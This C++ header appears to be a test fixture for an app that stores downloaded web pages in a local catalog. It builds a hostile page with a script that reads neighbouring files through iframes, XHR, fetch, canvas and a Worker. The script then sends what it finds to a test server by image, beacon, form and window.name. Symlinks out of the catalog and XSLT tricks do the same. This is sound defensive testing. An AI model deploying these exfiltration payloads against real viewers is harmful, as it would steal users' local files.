#pragma once
// A downloaded page that tries every way it knows to send the catalog's other files and its own
// path to the server it came from, and the catalog around it: a note, another page, a generated
// site, a picture, XML files with a transformation and links in the catalog that lead out of it
// or name a note as styles. Nothing of theirs may reach the server.
#include "support/HttpServer.h"
#include "support/TestSupport.h"

#include <QDir>
#include <QFile>
#include <QString>
#include <QStringList>
#include <QUrl>

namespace hostile {

// Texts of the files beside the page; none may reach the server.
inline const QStringList kSecrets = {"NOTERTFSECRET", "NOTETXTSECRET", "OTHERPAGESECRET", "SITEINDEXSECRET",
                                     "SITENOTESECRET", "PIXEL18.52.86", "PRIVATESECRET"};

// The page's script: everything it finds goes out by a picture address, fetch, XHR, a beacon, a
// form, the window's name and the address of its link away.
inline QByteArray script(const QString& server)
{
    return QStringLiteral(
               "<script>var S='%1', found=[];"
               "function out(t){found.push(t); var d=encodeURIComponent(t); new Image().src=S+'/leak/img?d='+d;"
               " try{fetch(S+'/leak/fetch?d='+d,{method:'POST',body:t,mode:'no-cors'})}catch(e){}"
               " try{navigator.sendBeacon(S+'/leak/beacon',t)}catch(e){}"
               " try{var x=new XMLHttpRequest(); x.open('POST',S+'/leak/xhr'); x.send(t)}catch(e){}"
               " window.name=found.join('|'); var a=document.getElementById('away');"
               " if(a) a.href=S+'/landing.htm?d='+encodeURIComponent(window.name);}"
               "window.onerror=function(m){out('error '+m)};"
               "out('url '+document.URL);"
               "function text(id){try{var d=document.getElementById(id).contentDocument;"
               " out(id+' '+d.documentElement.innerHTML); return d}catch(e){return null}}"
               "function read(u){try{var x=new XMLHttpRequest(); x.open('GET',u,false); x.send();"
               " out('xhr '+x.responseText)}catch(e){}"
               " try{fetch(u).then(function(r){return r.text()}).then(function(t){out('fetch '+t)})}catch(e){}}"
               "window.onload=function(){"
               " ['other','obj','emb','rtf','txt','site','xml'].forEach(text);"
               " var s=document.getElementById('site').contentDocument;"
               " if(s){var l=s.getElementsByTagName('a')[0]; if(l){var f=document.createElement('iframe');"
               "  f.onload=function(){text('sitenote')}; f.id='sitenote'; f.src=l.href; document.body.appendChild(f)}}"
               " try{var c=document.createElement('canvas'), g=c.getContext('2d');"
               "  g.drawImage(document.getElementById('pic'),0,0);"
               "  var p=g.getImageData(0,0,1,1).data; out('PIXEL'+p[0]+'.'+p[1]+'.'+p[2])}catch(e){}"
               " ['Note.txt','Note.rtf','Other.htm','html/index.html'].forEach(function(n){read(n)});"
               " try{new Worker(URL.createObjectURL(new Blob(['fetch(\"'+new URL('Note.txt',document.URL)+'\")"
               ".then(function(r){return r.text()})"
               ".then(function(t){fetch(\"'+S+'/leak/worker?d=\"+encodeURIComponent(t))})'])))}catch(e){}"
               " var f=document.getElementById('form'); f.elements[0].value=found.join('|'); f.submit();"
               "};</script>")
        .arg(server)
        .toUtf8();
}

// The page as the download saved it: links made absolute on its server; its own picture stays
// there. With a charset declared or not (the browser takes the two kinds of page differently).
inline QByteArray page(const testsupport::HttpServer& server, bool declared)
{
    const QByteArray s = server.url(QString()).toUtf8();
    return "<!-- DownloadURL=\"" + s + "/hostile.htm\" -->\r\n<html><head>" +
           (declared ? QByteArray("<meta charset=\"windows-1251\">") : QByteArray()) +
           "<title>Hostile</title><script src=\"Note.txt\"></script>" + script(QString::fromUtf8(s)) +
           "<link rel=\"stylesheet\" href=\"x.xsl\"></head><body>\r\n"
           "<a id=\"away\" href=\"" + s + "/landing.htm\" ping=\"" + s + "/leak/ping\">Away</a>\r\n"
           "<img src=\"" + s + "/png?own\"><img id=\"pic\" src=\"pic.gif\">\r\n"
           "<iframe id=\"other\" src=\"Other.htm\"></iframe><object id=\"obj\" data=\"Other.htm\"></object>"
           "<embed id=\"emb\" src=\"Other.htm\"><iframe id=\"rtf\" src=\"Note.rtf\"></iframe>"
           "<iframe id=\"txt\" src=\"Note.txt\"></iframe><iframe id=\"site\" src=\"html/index.html\"></iframe>"
           "<iframe id=\"xml\" src=\"x.xml\"></iframe><object data=\"x.xml\"></object>\r\n"
           "<link rel=\"stylesheet\" href=\"Linked.css\"><link rel=\"stylesheet\" href=\"Styles.css\">"
           "<iframe src=\"Linked.htm\"></iframe><iframe src=\"Linked/page.htm\"></iframe>\r\n"
           "<form id=\"form\" method=\"post\" action=\"" + s + "/leak/form\" target=\"sink\"><input name=\"d\"></form>"
           "<iframe name=\"sink\"></iframe>\r\n"
           "</body></html>\r\n";
}

// The catalog around the page, and the remote page its link leads to, which reports what it
// was given: where it came from and the window's name.
inline void lay(const QString& cat, const testsupport::HttpServer& server, const QString& serverRoot)
{
    using testsupport::writeFile;
    writeFile(cat + "Note.rtf", "{\\rtf1 NOTERTFSECRET}");
    writeFile(cat + "Note.txt", "NOTETXTSECRET is private");
    writeFile(cat + "Other.htm", "<html><body>OTHERPAGESECRET</body></html>");
    writeFile(cat + "html/index.html", "<html><body><a href=\"n1.htm\">SITEINDEXSECRET</a></body></html>");
    writeFile(cat + "html/n1.htm", "<html><body>SITENOTESECRET</body></html>");
    // A one-pixel picture of colour 18, 52, 86.
    writeFile(cat + "pic.gif", QByteArray("GIF89a\1\0\1\0\x80\0\0\x12\x34\x56\0\0\0,\0\0\0\0\1\0\1\0\0\2\2D\1\0;", 35));
    // Files outside the catalog, reached through links in it (as a catalog unpacked by tar may
    // hold): a style sheet and a page of the user's that load from the server, and a note that a
    // link named as styles makes read as styles.
    const QByteArray load = "{background:url(" + server.url("/leak/").toUtf8();
    writeFile(cat + "../Private/style.css", "body" + load + "outside-css)}");
    writeFile(cat + "../Private/page.htm", "<html><body>PRIVATESECRET<img src=\"" + server.url("/leak/outside-page").toUtf8() +
                                                 "\"></body></html>");
    writeFile(cat + "Styles.txt", "NOTETXTSECRET is private{}\nhtml" + load + "note-as-css?NOTETXTSECRET)}");
    QFile::link(cat + "../Private/style.css", cat + "Linked.css");
    QFile::link(cat + "../Private/page.htm", cat + "Linked.htm");
    QFile::link(cat + "../Private", cat + "Linked");
    QFile::link("Styles.txt", cat + "Styles.css");
    writeFile(serverRoot + "landing.htm",
              "<html><body>Landing<script>new Image().src='/report?ref='+encodeURIComponent(document.referrer)+"
              "'&name='+encodeURIComponent(window.name);</script></body></html>");
    // XML documents whose transformation runs without scripts: it puts the other page and the
    // document's own path into a picture's address and into a refresh to the server. The
    // transformation comes from a file beside it, from one named as styles, or from inside the
    // document itself.
    const QByteArray doctype = "<?xml version=\"1.0\"?><?xml-stylesheet type=\"text/xsl\" href=\"%1\"?>"
                               "<!DOCTYPE r [<!NOTATION n SYSTEM \"n\"><!ENTITY e SYSTEM \"e.gif\" NDATA n>"
                               "<!ATTLIST xsl:stylesheet id ID #IMPLIED>]>";
    auto transform = [&](const char* from) {
        return "<xsl:stylesheet id=\"s\" version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\">"
               "<xsl:template match=\"/\"><html><head><meta http-equiv=\"refresh\" content=\"0;url=" +
               server.url("/leak/refresh?d=").toUtf8() + "{unparsed-entity-uri('e')}\"/></head><body><img src=\"" +
               server.url("/leak/xslt?from=").toUtf8() + from +
               "&amp;d={document('Other.htm')}|{unparsed-entity-uri('e')}\"/></body></html></xsl:template>"
               "</xsl:stylesheet>";
    };
    writeFile(cat + "x.xml", QByteArray(doctype).replace("%1", "x.xsl") + "<r/>");
    writeFile(cat + "x.xsl", transform("x"));
    writeFile(cat + "y.xml", QByteArray(doctype).replace("%1", "y.css") + "<r/>");
    writeFile(cat + "y.css", transform("y"));
    writeFile(cat + "z.xml", QByteArray(doctype).replace("%1", "#s") + "<r>" + transform("z") + "</r>");
    // One whose transformation makes only a link of its path, for the link list to read.
    writeFile(cat + "l.xml", QByteArray(doctype).replace("%1", "#s") +
                                 "<r><xsl:stylesheet id=\"s\" version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\">"
                                 "<xsl:template match=\"/\"><html><body><a href=\"" +
                                 server.url("/leak/link?d=").toUtf8() +
                                 "{unparsed-entity-uri('e')}\">Link</a></body></html></xsl:template></xsl:stylesheet></r>");
}

// What of the catalog reached the server: its secrets and its folder's name.
inline QStringList leaks(const testsupport::HttpServer& server, const QString& cat)
{
    const QByteArray got = server.received();
    QStringList out;
    for (const QString& s : kSecrets)
        if (got.contains(s.toUtf8()))
            out << s;
    const QString folder = QDir(cat).absolutePath();
    for (const QString& part : {QDir(folder + "/..").dirName(), folder})
        if (got.contains(part.toUtf8()) || got.contains(QUrl::toPercentEncoding(part)))
            out << part;
    return out;
}

} // namespace hostile
